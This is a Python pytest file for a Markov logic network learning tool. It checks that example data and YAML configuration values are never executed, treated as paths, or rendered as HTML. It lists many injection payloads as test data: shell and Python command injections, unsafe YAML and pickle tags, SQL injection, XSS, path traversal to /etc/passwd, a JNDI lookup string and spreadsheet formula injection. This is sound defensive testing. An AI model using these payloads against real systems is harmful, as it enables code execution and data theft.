"""What an example or a configuration says is never run, never a path, and never markup."""

import json
import os
from html.parser import HTMLParser
from pathlib import Path

import pytest

from onlinesrl.mln.lang import reader

MODEL = "field = {...}\nWord(word, position)\nField(position, field)\nWord(+w, i) => Field(i, +f)\n"
ELEMENTS = {"script", "img", "iframe", "a", "object", "embed", "link", "base", "form"}


def payloads(canary: Path) -> list[str]:
    """Texts that make `canary` where something runs, opens or interprets them."""
    touch = f"touch {canary}"
    return [
        f"$({touch})",
        f"`{touch}`",
        f"; {touch} #",
        f"| {touch}",
        f"\n{touch}\n",
        f"__import__('os').system('{touch}')",
        f"{{{{().__class__.__base__.__subclasses__()}}}}{touch}",
        f"!!python/object/apply:os.system ['{touch}']",
        f"cos\nsystem\n(S'{touch}'\ntR.",
        "%s%n%x{0}{0.__class__}${HOME}~",
        "'; DROP TABLE weights; --",
        '" OR 1=1; --',
        "<script>fetch('//evil')</script>",
        "</style></td></table><img src=x onerror=alert(1)>",
        '"><svg/onload=alert(1)>',
        "javascript:alert(1)",
        "&lt;script&gt;&#x3c;script>",
        str(canary),
        f"../../../../../../../../..{canary}",
        "..",
        "/etc/passwd",
        "CON",
        "-rf",
        "\x1b]0;owned\x07\x1b[2J",
        "\u202egnp.exe",
        "\ufeff\u2028\u2029\x85",
        "=cmd|'/c calc'!A1",
        "${jndi:ldap://evil/a}",
        '#include "/etc/passwd"',
        "// comment",
        "/* comment",
        '") => Field(i, "x").\n1000 Field(i, "',
        "\\",
        '"',
        "'",
        "",
        " ",
    ]


class Elements(HTMLParser):
    """The elements of a page that could do something, and attributes that could."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [tag] if tag in ELEMENTS else []
        self.found += [
            name for name, _ in attrs if name.startswith("on") or name in {"href", "src"}
        ]


def test_what_examples_say_is_only_text(job, tmp_path, tally):
    canary = tmp_path / "canary"
    (tmp_path / "words.mln").write_text(MODEL)
    found = payloads(canary)
    lines = []
    for text in found:
        world = {"Word": [[text, 0], ["plain", 1], [text, text]]}
        truth = {"Field": [[0, text], [1, "plain"], [text, "plain"]]}
        example = {"id": text, "group": text, "evidence": world, "truth": truth}
        lines += [json.dumps(each).encode() + b"\n" for each in (example, {**example, text: 1})]
    keys = {"model": str(tmp_path / "words.mln"), "query": "Field", "metrics": {"by": "field"}}
    run = job(lines * 2, limits={"bad_share": 1.0}, **keys)
    around = {path for path in tmp_path.rglob("*") if path.parent != run.folder}
    assert run.run() == 0, run.said
    assert not canary.exists()
    assert {path for path in tmp_path.rglob("*") if run.output not in (path, *path.parents)} <= (
        around | {run.folder, run.source, run.config, run.folder / "stdout", run.folder / "stderr"}
    )
    assert {path.name for path in run.output.iterdir()} == {
        "checkpoints", "deadletter.jsonl", "lock", "metrics.jsonl", "predictions.jsonl",
        "report.html", "started", "summary.json", "weights.mln",
    }  # fmt: skip
    assert [p["id"] for p in run.predictions()] == found * 2
    assert len(run.lines("deadletter.jsonl")) == 2 * len(found)
    assert Elements((run.output / "report.html").read_text()).found == []
    for said in (run.said, run.printed, *(x["reason"] for x in run.lines("deadletter.jsonl"))):
        assert all(c.isprintable() or c == "\n" for c in said)
    learned = reader.load(run.output / "weights.mln")
    model = reader.parse(MODEL, "words.mln")
    assert set(learned.predicates) == set(model.predicates)
    assert all(rule.weight is not None and not rule.hard for rule in learned.rules)
    assert run.call("evaluate", run.output / "weights.mln", run.config) == 0
    tally["bad inputs"] += 2 * len(found)


@pytest.mark.parametrize("key", ["model", "query", "learner", "output", "seed", "metrics"])
def test_a_configuration_makes_no_objects_and_runs_nothing(job, tmp_path, tally, key):
    canary = tmp_path / "canary"
    tags = [
        f"!!python/object/apply:os.system ['touch {canary}']",
        f"!!python/object/new:os.system [touch {canary}]",
        "!!python/name:os.system",
        "!!python/module:os",
        "!!python/object/apply:eval [1]",
        "&a [*a]",
        "!include /etc/passwd",
        "!!binary aGk=",
        "!!set {a}",
    ]
    run = job([])
    text = "\n".join(
        line for line in run.config.read_text().splitlines() if not line.startswith(key)
    )
    for tag in tags:
        run.config.write_text(f"{text}\n{key}: {tag}\n")
        assert run.run() == 78, tag
        assert run.said.startswith(f"{run.config}:"), tag
        assert "Traceback" not in run.said
        assert "root:" not in run.said
    assert not canary.exists()
    assert not os.path.lexists(run.output)
    tally["bad inputs"] += len(tags)
